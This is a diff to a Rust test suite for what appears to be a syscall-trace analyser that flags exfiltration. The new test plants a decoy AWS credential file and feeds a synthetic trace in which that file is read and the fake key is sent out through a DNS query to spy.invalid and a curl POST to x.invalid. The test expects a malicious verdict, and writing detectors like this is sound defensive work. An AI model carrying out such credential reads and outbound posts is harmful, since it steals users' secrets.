@@ -5,6 +5,7 @@ fn context() -> TraceContext {
         home: "/w/home".into(),
         environment_roots: vec!["/w/env".into(), "/w/tmp".into(), "/w/work".into()],
         initial_cwd: "/w/work".into(),
+        decoys: Vec::new(),
     }
 }
 
@@ -369,4 +370,45 @@ fn cut_and_garbled_traces_never_panic() {
         let report = report_of(&garbled, "é\u{0}\"\\");
         assert!(report.unparsed_lines > 0);
     }
+}
+
+#[test]
+fn decoy_reads_and_uses_of_their_values_are_exfiltration() {
+    let mut context = context();
+    context.decoys = vec![Decoy {
+        label: "aws credentials".into(),
+        path: Some("/w/home/.aws/credentials".into()),
+        value: "AKIAQWERTYUIOPASDFGH".into(),
+    }];
+    let trace = r#"300 10:00:00.000000 openat(AT_FDCWD</w/work>, "/w/home/.aws/credentials", O_RDONLY|O_CLOEXEC) = 3</w/home/.aws/credentials>
+300 10:00:01.000000 connect(3<socket:[50713]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0
+300 10:00:02.000003 sendto(3<socket:[50713]>, "0}\1\0\0\1\0\0\0\0\0\0\24akiaqwertyuiopasdfgh\3spy\7invalid\0\0\34\0\1", 44, MSG_NOSIGNAL, NULL, 0) = 44
+300 10:00:03.000000 execve("/usr/bin/curl", ["curl", "-d", "k=AKIAQWERTYUIOPASDFGH", "http://x.invalid"], 0x7ffd /* 9 vars */) = 0
+"#;
+    let mut observations = Observations::default();
+    observations.read_trace(trace, Phase::Tests, &context);
+    let report = observations.report();
+    let details: Vec<&str> = report
+        .exfiltration
+        .iter()
+        .map(|e| e.detail.as_str())
+        .collect();
+    assert!(
+        details.contains(&"opened /w/home/.aws/credentials (ok)"),
+        "{details:#?}"
+    );
+    assert!(
+        details.contains(&"its value in the DNS query for akiaqwertyuiopasdfgh.spy.invalid"),
+        "{details:#?}"
+    );
+    assert!(
+        details.iter().any(|d| d.contains("k=akiaqwertyuiopasdfgh")),
+        "{details:#?}"
+    );
+    assert!(report.exfiltration.iter().all(|e| e.phase == Phase::Tests));
+    assert_eq!(report.verdict, Verdict::Malicious);
+    assert!(report
+        .reasons
+        .iter()
+        .any(|r| r.rule == Rule::Exfiltration && r.detail.ends_with("during tests")));
 }
